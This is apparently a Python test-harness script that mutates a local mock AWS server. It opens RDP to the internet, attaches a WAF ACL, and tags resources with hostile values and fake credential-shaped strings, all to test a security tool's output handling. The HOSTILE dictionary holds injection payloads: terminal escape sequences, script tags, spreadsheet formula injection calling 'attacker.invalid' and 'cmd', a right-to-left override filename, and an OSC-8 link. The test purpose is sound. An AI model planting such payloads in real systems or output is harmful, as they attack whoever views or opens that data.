#!/usr/bin/env python3
"""Change a seeded moto server the way a real account drifts overnight.

    change.py --endpoint http://127.0.0.1:PORT --change night2 --manifest FILE

Reads the manifest `seed.py` wrote for the `demo` scenario and applies one
named change set, then adds what it did to the manifest under the change's
name, so the end-to-end tests know exactly what moved:

  night2   opens RDP (tcp 3389) to 0.0.0.0/0 on the hardened backend's app
           security group, and attaches the unattached `staging-waf` web ACL
           to the legacy REST API's stage.
  hostile  tags the legacy instance, its security group and the legacy REST
           API stage with values an attacker who can tag resources would
           plant: terminal escapes, HTML/script, a spreadsheet formula, a
           newline, quotes, a right-to-left override, a NUL-free control mix.
  secrets  tags the legacy instance with values shaped like AWS credentials
           (an access key id, a secret key, a session token) and records
           them, for the no-secrets tests.

Like seeding, this is the test harness's job: rampart itself never changes
an account. Loopback endpoints only.
"""

from __future__ import annotations

import argparse
import json
import os
import sys

from loopback import isolate_environment, loopback_endpoint

REGION = "us-east-1"


def night2(endpoint: str, manifest: dict) -> dict:
    import boto3
    from botocore.config import Config

    cfg = Config(retries={"max_attempts": 1, "mode": "standard"})
    session = boto3.session.Session(aws_access_key_id="test", aws_secret_access_key="test", region_name=REGION)
    ec2 = session.client("ec2", endpoint_url=endpoint, config=cfg)
    waf = session.client("wafv2", endpoint_url=endpoint, config=cfg)

    sg = manifest["hardened"]["app_sg_id"]
    rule = {"IpProtocol": "tcp", "FromPort": 3389, "ToPort": 3389, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
    ec2.authorize_security_group_ingress(GroupId=sg, IpPermissions=[rule])

    acl = manifest["staging_waf"]["web_acl_arn"]
    stage = manifest["legacy"]["stage_arn"]
    waf.associate_web_acl(WebACLArn=acl, ResourceArn=stage)
    return {
        "opened_sg_id": sg,
        "opened_port": 3389,
        "opened_cidr": "0.0.0.0/0",
        "attached_web_acl_arn": acl,
        "attached_to_stage_arn": stage,
    }


HOSTILE = {
    "Name": "evil\x1b[2J\x1b[31mred\x1b[0m <script>alert('x')</script>",
    "formula": "=HYPERLINK(\"http://attacker.invalid/\"&A1,\"click\")",
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "html": "<img src=x onerror=alert(1)>\"'&amp;",
    "multiline": "line one\nline two\r\nline three\ttabbed",
    "bidi": "invoice\u202efdp.exe",
    "osc": "\x1b]8;;http://attacker.invalid/\x07link\x1b]8;;\x07",
}


def _clients(endpoint: str):
    import boto3
    from botocore.config import Config

    cfg = Config(retries={"max_attempts": 1, "mode": "standard"})
    session = boto3.session.Session(aws_access_key_id="test", aws_secret_access_key="test", region_name=REGION)
    return session, cfg


def hostile(endpoint: str, manifest: dict) -> dict:
    session, cfg = _clients(endpoint)
    ec2 = session.client("ec2", endpoint_url=endpoint, config=cfg)
    apigw = session.client("apigateway", endpoint_url=endpoint, config=cfg)
    legacy = manifest["legacy"]
    tags = [{"Key": k, "Value": v} for k, v in HOSTILE.items()]
    ec2.create_tags(Resources=[legacy["instance_id"], legacy["web_sg_id"]], Tags=tags)
    apigw.tag_resource(resourceArn=legacy["stage_arn"], tags=dict(HOSTILE))
    return {
        "tagged": [legacy["instance_id"], legacy["web_sg_id"], legacy["stage_arn"]],
        "values": HOSTILE,
    }


# Shaped like real credentials, recognisable, and never valid anywhere.
FAKE_ACCESS_KEY_ID = "AKIARAMPARTFAKE00001"
FAKE_SECRET_KEY = "rampartFAKEsecretKEY/0123456789abcdefghij"
FAKE_SESSION_TOKEN = "FwoGZXIvYXdzRAMPARTFAKESESSIONTOKEN0123456789"


def secrets(endpoint: str, manifest: dict) -> dict:
    session, cfg = _clients(endpoint)
    ec2 = session.client("ec2", endpoint_url=endpoint, config=cfg)
    legacy = manifest["legacy"]
    ec2.create_tags(
        Resources=[legacy["instance_id"]],
        Tags=[
            {"Key": "aws_access_key_id", "Value": FAKE_ACCESS_KEY_ID},
            {"Key": "aws_secret_access_key", "Value": FAKE_SECRET_KEY},
            {"Key": "note", "Value": f"token={FAKE_SESSION_TOKEN}"},
        ],
    )
    return {
        "tagged": legacy["instance_id"],
        "access_key_id": FAKE_ACCESS_KEY_ID,
        "secret_key": FAKE_SECRET_KEY,
        "session_token": FAKE_SESSION_TOKEN,
        "userdata_secret": manifest.get("userdata_secret"),
    }


CHANGES = {"night2": night2, "hostile": hostile, "secrets": secrets}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--endpoint", required=True, help="moto server URL, http://127.0.0.1:PORT")
    ap.add_argument("--change", required=True, choices=sorted(CHANGES))
    ap.add_argument("--manifest", required=True, help="the manifest seed.py wrote; updated in place")
    args = ap.parse_args()

    endpoint = loopback_endpoint("change.py", args.endpoint)
    if endpoint is None:
        return 2
    isolate_environment()

    with open(args.manifest, encoding="utf-8") as f:
        manifest = json.load(f)
    try:
        manifest[args.change] = CHANGES[args.change](endpoint, manifest)
    except Exception as e:  # one line for the harness log, naming the call
        print(f"change.py: {args.change}: {e}", file=sys.stderr)
        return 1
    tmp = args.manifest + ".tmp"
    with open(tmp, "w", encoding="utf-8") as f:
        json.dump(manifest, f, indent=2, sort_keys=True)
        f.write("\n")
    os.replace(tmp, args.manifest)
    print(f"change.py: {args.change} applied -> {args.manifest}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
